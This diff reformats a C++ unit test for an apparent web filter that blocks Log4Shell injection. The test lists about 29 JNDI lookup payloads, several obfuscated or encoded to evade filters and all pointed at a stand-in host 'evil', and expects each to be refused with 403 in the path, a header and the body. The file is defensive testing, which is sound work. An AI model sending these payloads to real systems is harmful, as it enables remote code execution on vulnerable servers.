@@ -51,19 +51,35 @@ class Log4Shell : public testing::Test {
 };
 
 TEST_F(Log4Shell, ExploitsAreRefusedWhereverTheyAre) {
-  for (const std::string exploit :
-       {"${jndi:ldap://evil/a}", "${JNDI:LDAP://evil/a}", "x ${jndi:rmi://evil/a} y", "${jndi:dns://evil",
-        "${${lower:j}ndi:ldap://evil/a}", "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil/a}",
-        "${j${lower:n}di:ldap://evil/a}", "${jn${::-d}i:ldap://evil/a}", "${jndi${nagli:-:}ldap://evil/a}",
-        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil/a}",
-        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}",
-        "${${upper:j}ndi:ldap://evil/a}", "${${lower:${lower:jndi}}:ldap://evil/a}",
-        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}", "${$${::-j}ndi:ldap://evil/a}",
-        "${jnd${upper:\xc4\xb1}:ldap://evil/a}", "%24%7Bjndi:ldap://evil/a%7D", "%24%7bjndi%3aldap://evil/a%7d",
-        "%2524%257Bjndi%253Aldap://evil/a%257D", "%252524%25257Bjndi:ldap://evil/a", "$%7Bjndi:ldap://evil/a%7D",
-        "%24{${lower:j}ndi:ldap://evil/a}", "%u0024%u007bjndi:ldap://evil/a}",
-        "\\u0024{jndi:ldap://evil/a}", "\\u0024\\u007Bjndi:ldap://evil/a}", "\\x24{jndi:ldap://evil/a}",
-        "&#36;{jndi:ldap://evil/a}", "&#x24;&#x7b;jndi:ldap://evil/a}", "&#036;{jndi:ldap://evil/a}"}) {
+  for (const std::string exploit : {"${jndi:ldap://evil/a}",
+                                    "${JNDI:LDAP://evil/a}",
+                                    "x ${jndi:rmi://evil/a} y",
+                                    "${jndi:dns://evil",
+                                    "${${lower:j}ndi:ldap://evil/a}",
+                                    "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil/a}",
+                                    "${j${lower:n}di:ldap://evil/a}",
+                                    "${jn${::-d}i:ldap://evil/a}",
+                                    "${jndi${nagli:-:}ldap://evil/a}",
+                                    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil/a}",
+                                    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}",
+                                    "${${upper:j}ndi:ldap://evil/a}",
+                                    "${${lower:${lower:jndi}}:ldap://evil/a}",
+                                    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}",
+                                    "${$${::-j}ndi:ldap://evil/a}",
+                                    "${jnd${upper:\xc4\xb1}:ldap://evil/a}",
+                                    "%24%7Bjndi:ldap://evil/a%7D",
+                                    "%24%7bjndi%3aldap://evil/a%7d",
+                                    "%2524%257Bjndi%253Aldap://evil/a%257D",
+                                    "%252524%25257Bjndi:ldap://evil/a",
+                                    "$%7Bjndi:ldap://evil/a%7D",
+                                    "%24{${lower:j}ndi:ldap://evil/a}",
+                                    "%u0024%u007bjndi:ldap://evil/a}",
+                                    "\\u0024{jndi:ldap://evil/a}",
+                                    "\\u0024\\u007Bjndi:ldap://evil/a}",
+                                    "\\x24{jndi:ldap://evil/a}",
+                                    "&#36;{jndi:ldap://evil/a}",
+                                    "&#x24;&#x7b;jndi:ldap://evil/a}",
+                                    "&#036;{jndi:ldap://evil/a}"}) {
     EXPECT_EQ(in_path(exploit), 403) << exploit;
     EXPECT_EQ(in_header(exploit), 403) << exploit;
     EXPECT_EQ(in_body(exploit), 403) << exploit;
@@ -73,9 +89,10 @@ TEST_F(Log4Shell, ExploitsAreRefusedWhereverTheyAre) {
 
 TEST_F(Log4Shell, OtherRequestsPass) {
   for (const std::string text :
-       {"", "hello", "jndi:ldap://docs.example/", "what is ${jndi} in Java?", "cost: $5 {a}", "100%", "%zz %4", "a=1&b=2&#c",
-        "${name} and ${other:-x}", "${a.b.map(c => `${c}`)}", "C:\\users\\xavier", "\\u00e4\\u0024", "%E4%BD%A0%E5%A5%BD",
-        "{\"template\": \"${HOME}/bin:${PATH}\"}", "\xe4\xbd\xa0\xe5\xa5\xbd $$ {{ }}"}) {
+       {"", "hello", "jndi:ldap://docs.example/", "what is ${jndi} in Java?", "cost: $5 {a}", "100%",
+        "%zz %4", "a=1&b=2&#c", "${name} and ${other:-x}", "${a.b.map(c => `${c}`)}", "C:\\users\\xavier",
+        "\\u00e4\\u0024", "%E4%BD%A0%E5%A5%BD", "{\"template\": \"${HOME}/bin:${PATH}\"}",
+        "\xe4\xbd\xa0\xe5\xa5\xbd $$ {{ }}"}) {
     EXPECT_EQ(in_path(text), 0) << text;
     EXPECT_EQ(in_header(text), 0) << text;
     EXPECT_EQ(in_body(text), 0) << text;
@@ -89,7 +106,8 @@ TEST_F(Log4Shell, ABodyThatItCannotReadIsRefused) {
 
 // As long as a filter may see: of every kind, within the budget.
 TEST_F(Log4Shell, LongBodiesAreJudgedWithinTheBudget) {
-  for (const std::string piece : {"a", "%E4", "%25", "\\u0061", "&#97;", "${a}", "$", "${", "${jndi", "{\"a\":\"b\\n\"}, "}) {
+  for (const std::string piece :
+       {"a", "%E4", "%25", "\\u0061", "&#97;", "${a}", "$", "${", "${jndi", "{\"a\":\"b\\n\"}, "}) {
     std::string body;
     while (body.size() + piece.size() <= 64 * 1024) body += piece;
     EXPECT_EQ(in_body(body), piece == "${" || piece == "${jndi" ? 403 : 0) << piece;
